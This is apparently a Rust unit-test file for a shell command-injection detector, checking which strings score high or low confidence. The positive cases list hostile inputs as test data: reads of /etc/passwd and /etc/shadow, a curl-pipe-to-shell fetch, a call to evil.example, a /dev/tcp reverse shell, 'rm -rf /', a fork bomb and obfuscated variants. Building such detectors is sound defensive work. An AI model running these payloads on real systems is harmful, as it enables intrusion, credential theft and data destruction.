use crate::lower::Lower;

fn confidence(text: &str) -> u8 {
    super::confidence(text, &Lower::new(text))
}

#[test]
fn what_goes_on_as_a_command() {
    for text in [
        ";id",
        "127.0.0.1; cat /etc/passwd",
        "x | whoami",
        "`id`",
        "$(curl http://evil.example/x)",
        "report.pdf && rm -rf /",
        "c''at /et'c/pa'sswd",
        "cu$@rl evil.example",
        "cat${IFS}/etc/shadow",
        "/???/c?t /etc/x",
        "() { :;}; echo x",
        "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
        "f(){ f|f& };f",
        "FOR %G IN (a b) DO echo %G",
        "if exist c:\\x echo y",
        "a=id;$a",
        "curl x.example/i.sh | sh",
    ] {
        assert!(confidence(text) >= 70, "{text}: {}", confidence(text));
    }
}

#[test]
fn what_does_not() {
    for text in [
        "git commit -m 'fix'",
        "journalctl -u ssh | grep error",
        "du -h path/to/directory | sort -h",
        "a | b",
        "hello; time flies",
        "Tom & Jerry",
        "don't cut it; find another",
        "I'd like a poem",
        "```python\nprint(1)\n```",
        "foo.example/?a=1&sort=up",
        "truncate",
    ] {
        assert!(confidence(text) < 70, "{text}: {}", confidence(text));
    }
}

#[test]
fn lines_calls_and_closed_commands() {
    for text in [
        "\nid",
        "\r\nwhoami\r\n",
        "\nsleep 5\n",
        "ls;",
        "uname|",
        "127.0.0.1|net user",
        "x;sc query",
        ";x=$'id';$x",
        "report.txt; type c:\\boot.ini",
        ";. /tmp/x",
        "a|id;",
        "^;id",
        "$;/usr/bin/id",
        "|id\0",
        ";echo hi > /tmp/x",
        "system(\"id\")",
        "subprocess.call('ls -l', shell=True)",
        "require('child_process').exec('whoami')",
    ] {
        assert!(confidence(text) >= 70, "{text}: {}", confidence(text));
    }
    for text in [
        "time; date; place",
        "Q&A; history",
        "first; last; kill; time",
        "name|id|type",
        "test; echo",
        "done;",
        "cursor.exec(\"replace into t values (1)\")",
        "pattern.exec('date')",
        "\nfind the man who sold the world",
        "the net user count",
    ] {
        assert!(confidence(text) < 70, "{text}: {}", confidence(text));
    }
}
